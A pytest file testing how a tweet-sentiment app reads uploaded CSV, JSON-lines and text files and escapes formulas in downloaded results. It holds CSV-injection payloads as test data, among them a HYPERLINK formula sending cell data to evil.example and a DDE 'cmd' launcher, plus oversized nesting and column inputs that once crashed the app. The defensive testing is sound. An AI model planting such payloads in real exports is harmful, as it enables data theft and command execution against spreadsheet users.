"""Uploaded files: reading CSV and JSON lines, finding the tweet column, and every message about a bad file."""
from __future__ import annotations

import csv
import io
import json
import re

import pandas as pd
import pytest

from tests.conftest import ROOT
from ui.tables import FileError, as_csv, read_upload, results_table, text_columns, texts_in


@pytest.fixture(scope="module")
def raw_tweets(raw_path) -> pd.DataFrame:
    """The bundled tweets as id, rating, text (strings), as a person would export them."""
    return pd.read_csv(raw_path, sep="\t", header=None, names=["id", "rating", "text"], quoting=csv.QUOTE_NONE,
                       dtype=str)


def test_a_csv_of_real_tweets_is_read_whole_and_its_text_column_comes_first(raw_tweets):
    frame = read_upload("tweets.csv", raw_tweets.to_csv(index=False).encode())
    assert len(frame) == len(raw_tweets) == 4200
    assert text_columns(frame) == ["text"]  # id and rating are numbers, not tweets
    assert frame["text"].tolist() == raw_tweets["text"].tolist()


def test_json_lines_and_a_semicolon_csv_are_read_with_the_tweet_column_named_as_the_person_named_it(raw_tweets):
    sample = raw_tweets.head(50)
    lines = "\n".join(json.dumps({"n": int(i), "tweet": t, "lang": "en"}) for i, t in zip(sample["id"], sample["text"]))
    frame = read_upload("export.jsonl", lines.encode())
    assert text_columns(frame)[0] == "tweet"
    assert frame["tweet"].tolist() == sample["text"].tolist()
    semicolons = read_upload("export.csv", sample.rename(columns={"text": "message"}).to_csv(index=False, sep=";")
                             .encode())
    assert text_columns(semicolons) == ["message"] and len(semicolons) == 50


def test_blank_rows_are_reported_by_their_row_number_not_sent(raw_tweets):
    sample = raw_tweets.head(5).copy()
    sample.loc[[1, 3], "text"] = ["", "   "]
    frame = read_upload("gaps.csv", sample.to_csv(index=False).encode())
    texts, rows, blank = texts_in(frame, "text")
    assert rows == [1, 3, 5] and blank == [2, 4]
    assert texts == sample["text"].iloc[[0, 2, 4]].tolist()


@pytest.mark.parametrize("name, data, limits, message", [
    ("empty.csv", b"", {}, "empty.csv is empty; upload a file with one tweet per row."),
    ("blank.jsonl", b"\n  \n", {}, "blank.jsonl is empty; upload a file with one tweet per row."),
    ("header.csv", b"id,text\n", {}, "header.csv has no rows; upload a file with one tweet per row."),
    ("big.csv", b"text\n" + b"a tweet\n" * 200, {"max_bytes": 1024},
     "big.csv is 1.6 KB; the limit is 1.0 KB, so split it into smaller files."),
    ("long.csv", b"text\n" + b"a tweet\n" * 11, {"max_rows": 10},
     "long.csv has 11 rows; the limit is 10, so split it into smaller files."),
    ("tweets.xlsx", b"PK\x03\x04", {},
     "tweets.xlsx is neither CSV, TSV, JSON lines nor text; upload a .csv, .tsv, .jsonl or .txt file."),
    ("latin.csv", "text\ncaf\u00e9\n".encode("latin-1"), {},
     "latin.csv is not UTF-8 text; save it as UTF-8 and upload it again."),
    ("bad.jsonl", b'{"text": "fine"}\n{"text": broken}\n', {},
     "Line 2 of bad.jsonl is not valid JSON; upload one JSON object per line."),
    ("list.jsonl", b'["a tweet"]\n', {},
     "Line 1 of list.jsonl is not a JSON object; upload one object per line, such as {\"text\": \"...\"}."),
    ("quotes.csv", b'id,text\n1,"never closed\n', {}, None),
    # Each a traceback in the page before (found by a hostile review): JSON nested too deeply, an escaped lone
    # surrogate (pyarrow-backed strings cannot hold it), and 200,000 columns (minutes to find the tweet column).
    ("deep.jsonl", b'{"text": ' + b"[" * 200_000 + b"]" * 200_000 + b"}\n", {},
     "Line 1 of deep.jsonl is not valid JSON; upload one JSON object per line."),
    ("lone.jsonl", b'{"text": "fine"}\n{"text": "hi \\ud800 there"}\n', {},
     "Line 2 of lone.jsonl has a lone surrogate (U+D800), which is not a character; fix that line and upload it "
     "again."),
    ("wide.csv", b",".join(b"c%d" % i for i in range(200_000)) + b"\n" + b",".join([b"word"] * 200_000), {},
     "wide.csv has 200,000 columns; the limit is 1,000, so keep the columns you need."),
])
def test_a_bad_file_gets_one_sentence_that_says_what_to_do(name, data, limits, message):
    with pytest.raises(FileError) as caught:
        read_upload(name, data, **limits)
    if message is None:  # the parser's own reason, wrapped in our sentence
        assert str(caught.value).startswith(f"{name} could not be read as CSV (")
        assert str(caught.value).endswith("); check its quoting and separators.")
    else:
        assert str(caught.value) == message


def test_a_file_of_numbers_only_has_no_text_column_and_the_message_names_its_columns(raw_tweets):
    frame = read_upload("scores.csv", raw_tweets[["id", "rating"]].head(20).to_csv(index=False).encode())
    with pytest.raises(FileError, match=r"^scores.csv has no text column \(its columns: id, rating\); add a column "
                                        r"holding the tweets.$"):
        text_columns(frame, "scores.csv")


def test_results_table_keeps_file_rows_and_the_files_own_columns_and_round_trips_through_csv(raw_tweets):
    frame = raw_tweets.head(9).assign(source=["web", "app", "web"] * 3, label=["gold"] * 9)
    rows = [1, 4, 9]
    predictions = [{"label": label, "probabilities": {"negative": n, "neutral": 0.1, "positive": 0.9 - n}}
                   for label, n in (("positive", 0.05), ("negative", 0.8), ("neutral", 0.3))]
    table = results_table(frame, rows, predictions, "run-1")
    back = pd.read_csv(pd.io.common.BytesIO(as_csv(table)), dtype=str)
    assert back.columns.tolist() == ["row", "id", "rating", "text", "source", "file_label", "label", "confidence",
                                     "p_negative", "p_neutral", "p_positive", "model_version"]
    assert back["row"].tolist() == ["1", "4", "9"]
    picked = frame.iloc[[0, 3, 8]]
    for column in ("id", "rating", "text", "source"):  # each row's own values, beside its prediction
        assert back[column].tolist() == picked[column].tolist()
    assert back["file_label"].tolist() == ["gold"] * 3  # the file's `label` column, kept under another name
    assert back["label"].tolist() == ["positive", "negative", "neutral"]
    assert back["confidence"].astype(float).round(6).tolist() == [0.85, 0.8, 0.6]
    assert back["model_version"].tolist() == ["run-1"] * 3


def test_a_download_shows_formulas_as_text_and_leaves_numbers_and_other_texts_as_they_are():
    """CSV injection: a text a spreadsheet would run (= + - @ tab CR first, OWASP's list) gets an apostrophe first;
    a negative rating stays a number. The texts come from the uploaded file, or from anyone who called the API. A CR
    inside a text is quoted, so a spreadsheet keeps it in its row."""
    texts = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@anonymous thanks!", "-2+3+cmd|' /C calc'!A0",
             "+1 555 0100", "\t=1+1", "\r=1+1", "great day = good day\rsame row", "'=already text", "-0.5"]
    frame = pd.DataFrame({"text": texts, "rating": ["-0.5", "-1e3", "+2", "-1,234.5", "-5%", "4", "5", "6", "-"],
                          '=HYPERLINK("http://evil.example/","x")': ["a"] * 9})  # a column name from the file
    predictions = [{"label": "neutral", "probabilities": {"negative": 0.25, "neutral": 0.5, "positive": 0.25}}] * 9
    table = results_table(frame, list(range(1, 10)), predictions, "=run")
    rows = list(csv.DictReader(io.StringIO(as_csv(table).decode(), newline="")))
    assert [row["text"] for row in rows] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'@anonymous thanks!", "'-2+3+cmd|' /C calc'!A0",
        "'+1 555 0100", "'\t=1+1", "'\r=1+1", "great day = good day\rsame row", "'=already text", "-0.5"]
    assert [row["rating"] for row in rows] == ["-0.5", "-1e3", "+2", "-1,234.5", "-5%", "4", "5", "6", "'-"]
    assert {row["model_version"] for row in rows} == {"'=run"} and {row["confidence"] for row in rows} == {"0.5"}
    assert list(rows[0])[3] == "'=HYPERLINK(\"http://evil.example/\",\"x\")"  # the header row too
    assert table["text"].tolist() == texts  # the table on screen is the file's own


def test_every_launcher_turns_off_streamlits_own_table_export():
    """Each table's "Download as CSV" writes formulas as they are; set from app.py it came too late for the first
    page a fresh server showed (a hostile review), so every launcher passes it on the command line."""
    for path in (ROOT / "scripts" / "run_ui.sh", ROOT / "ui" / "Dockerfile", ROOT / "tests" / "ui" / "conftest.py"):
        assert "--client.disableDataExport true" in re.sub(r'[\s",\\]+', " ", path.read_text()), path


def test_a_results_download_uploaded_again_keeps_every_column_under_a_name_of_its_own():
    """Its `file_label` column was given to the file's `label`, and its own became `file_file_label`."""
    frame = read_upload("again.csv", b"text,label,file_label\nhello there,x,y\n")
    predictions = [{"label": "positive", "probabilities": {"negative": 0.1, "neutral": 0.2, "positive": 0.7}}]
    table = results_table(frame, [1], predictions, "run-2")
    assert table.columns.tolist()[:4] == ["row", "text", "file_file_label", "file_label"]
    assert (table["file_file_label"].tolist(), table["file_label"].tolist(), table["label"].tolist()) == (
        ["x"], ["y"], ["positive"])


def test_a_one_column_csv_and_a_txt_are_read_whole_per_line_never_split_on_a_letter(raw_path):
    """pandas' sniffing once took the `t` of a `tweet` header as the separator and sent cut tweets."""
    one = read_upload("onecol.csv", b'tweet\nI love my phone, it is great\nbad day; awful\n"quoted, two\nlines"\n')
    assert one["tweet"].tolist() == ["I love my phone, it is great", "bad day; awful", "quoted, two\nlines"]
    lines = read_upload("lines.txt", b"first tweet, with a comma\n\nsecond\ttab\nthird\n")
    assert lines["text"].tolist() == ["first tweet, with a comma", "second\ttab", "third"]
    archive = read_upload("tweets.txt", raw_path.read_bytes())
    assert list(archive.columns) == ["id", "rating", "text"] and len(archive) == 4200
    assert archive["text"].tolist() == [line.split("\t", 2)[2] for line in raw_path.read_text().splitlines()]
    with_tab = read_upload("tab.txt", "1\t2.5\thello there\n2\t-1.0\tbad\tday \u2028 after\n".encode())
    assert with_tab.to_dict("list") == {"id": ["1", "2"], "rating": ["2.5", "-1.0"],
                                        "text": ["hello there", "bad\tday \u2028 after"]}  # pandas refused the file


def test_the_ui_reads_a_txt_as_the_archive_by_the_same_rule_as_tweetops():
    from tweetops.io.tables import _ARCHIVE_LINE
    from ui.tables import ARCHIVE_LINE

    assert ARCHIVE_LINE.pattern.encode() == _ARCHIVE_LINE.pattern


def test_json_lines_values_are_kept_exactly_as_written():
    frame = read_upload("ids.jsonl", b'{"id": 1234567890123456789, "text": "hi there"}\n{"text": "no id"}\n'
                                     b'{"id": 7, "text": "seven", "tags": ["a"]}\n')
    assert frame["id"].tolist() == ["1234567890123456789", "", "7"]
    assert frame["tags"].tolist() == ["", "", '["a"]']
